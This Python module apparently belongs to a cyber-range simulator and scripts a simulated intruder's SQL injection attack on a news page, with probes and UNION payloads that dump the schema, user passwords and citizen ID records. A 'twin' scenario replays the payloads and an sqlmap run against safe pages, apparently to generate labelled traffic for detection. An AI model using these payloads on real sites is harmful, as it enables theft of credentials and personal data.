"""Tables are read through UNION, the page grows with them; twin: sqlmap against the parameterised page."""

from __future__ import annotations

from random import Random

from range.estate.addresses import abroad
from range.scenarios.acts import intruder
from range.scenarios.acts import twin as twin_of
from range.visits.browser import Browser
from range.visits.steps import Pause, ToolRun, Visit
from range.visits.world import World

NAME = "sqli_union"
SITES: tuple[str, ...] = ("kel-dahlia",)
TWIN_SITES: tuple[str, ...] = ("kel-flamboyan", "kel-anggrek")

_PROBES = ("7'", "7 AND 1=1", "7 AND 1=2", "7 ORDER BY 1", "7 ORDER BY 3", "7 ORDER BY 4", "7 ORDER BY 9")
_READS = (
    "-7 UNION SELECT 1,2,3",
    "-7 UNION SELECT 1,sqlite_version(),3",
    "-7 UNION SELECT 1,group_concat(name),3 FROM sqlite_master",
    "-7 UNION SELECT 1,group_concat(sql),3 FROM sqlite_master",
    "-7 UNION SELECT 1,group_concat(nama||':'||sandi),3 FROM pengguna",
    "-7 UNION SELECT 1,count(*),3 FROM warga",
    "-7 UNION SELECT 1,group_concat(nik||':'||nama),3 FROM (SELECT * FROM warga LIMIT 500)",
    "-7 UNION SELECT 1,group_concat(nik||':'||nama||':'||alamat),3 FROM warga",
)


def intrusion(world: World) -> None:
    """Find the number of columns, then read the catalogue, the accounts and the citizens."""
    _, me, dice = intruder(world, NAME, SITES[0], "exfiltrated", accepts=("executed",))
    world.go(SITES[0], world.at(16, 22.8), _read(me, dice))


def _read(me: Browser, dice: Random) -> Visit:
    yield from me.read("/berita.php?id=7")
    for text in _PROBES:
        yield Pause(dice.uniform(3, 20))
        yield from me.get(f"/berita.php?id={_quoted(text)}")
    for text in _READS:
        yield Pause(dice.uniform(8, 40))
        yield from me.get(f"/berita.php?id={_quoted(text)}", role="data read")


def _quoted(text: str) -> str:
    return text.replace("%", "%25").replace(" ", "%20").replace("'", "%27").replace("|", "%7C")


def twin(world: World) -> None:
    """Plan the same, and sqlmap, against bound parameters, and a search page that repeats it all."""
    actor, dice = twin_of(world, NAME, TWIN_SITES[0])
    me = world.browser(actor, abroad(dice))
    world.go(TWIN_SITES[0], world.at(16, 21.4), _try(me))
    header = ("-H", "X-Range-Id: {rid}", "-H", "X-Range-Client: {ip}", "-H", "X-Range-Time: {time}")
    command = (
        "sqlmap",
        "-u",
        "{url}/berita.php?id=7",
        *header,
        "--batch",
        "--level",
        "1",
        "--output-dir",
        "{tmp}/o",
    )
    world.go(TWIN_SITES[0], world.at(17, 2.1), _tool(ToolRun(actor, abroad(dice), command, 25.0)))
    other, dice = twin_of(world, NAME, TWIN_SITES[1])
    me = world.browser(other, abroad(dice))
    world.go(TWIN_SITES[1], world.at(16, 23.1), _search(me))


def _try(me: Browser) -> Visit:
    for text in (*_PROBES, *_READS):
        yield Pause(6)
        yield from me.get(f"/berita.php?id={_quoted(text)}")


def _search(me: Browser) -> Visit:
    for n, text in enumerate((*_PROBES, *_READS)):
        yield Pause(4)
        yield from me.get(f"/cari.php?q={_quoted(text * (1 + n % 5))}")


def _tool(step: ToolRun) -> Visit:
    yield step
